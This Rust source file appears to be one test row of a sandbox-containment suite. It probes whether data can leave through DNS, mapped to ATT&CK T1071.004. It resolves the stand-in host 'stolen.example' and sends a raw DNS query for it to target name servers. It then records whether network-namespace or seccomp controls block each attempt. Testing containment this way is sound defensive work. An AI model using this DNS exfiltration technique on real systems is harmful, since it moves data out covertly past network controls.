//! Names: a question to a name server takes data out, one label at a time.

use std::net::{ToSocketAddrs, UdpSocket};

use super::{Alone, Notes, Row, Run, refusal};
use crate::names;
use crate::{Cell, Control, Extent, Stride};

/// The row.
pub(super) const ROW: Row = Row {
    id: "name-servers",
    title: "Takes data out in questions to name servers, the machine's and others.",
    attack: "T1071.004",
    stride: Stride::I,
    controls: &[Control::NetworkNamespace, Control::Seccomp],
    run: Run::Alone(run, &["socket"]),
};

fn run(alone: &Alone<'_>, notes: &mut Notes) {
    if ("stolen.example", 80).to_socket_addrs().is_ok() {
        notes.reached(Cell::egress(names::OUTSIDE, names::DNS, Extent::Standing), "a name is resolved");
    } else {
        notes.stopped(Some(Control::NetworkNamespace), "no name is resolved");
    }
    // A question for the address of stolen.example (RFC 1035, section 4).
    let question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06stolen\x07example\0\0\x01\0\x01";
    for host in &alone.script.targets.hosts {
        match UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(question, (*host, 53))) {
            Ok(_) => notes.reached(Cell::egress(names::OUTSIDE, names::DNS, Extent::Standing), "a question leaves"),
            Err(error) => {
                let (by, seen) = refusal(&error);
                notes.stopped(by, format!("no question leaves: {seen}"));
            }
        }
    }
}
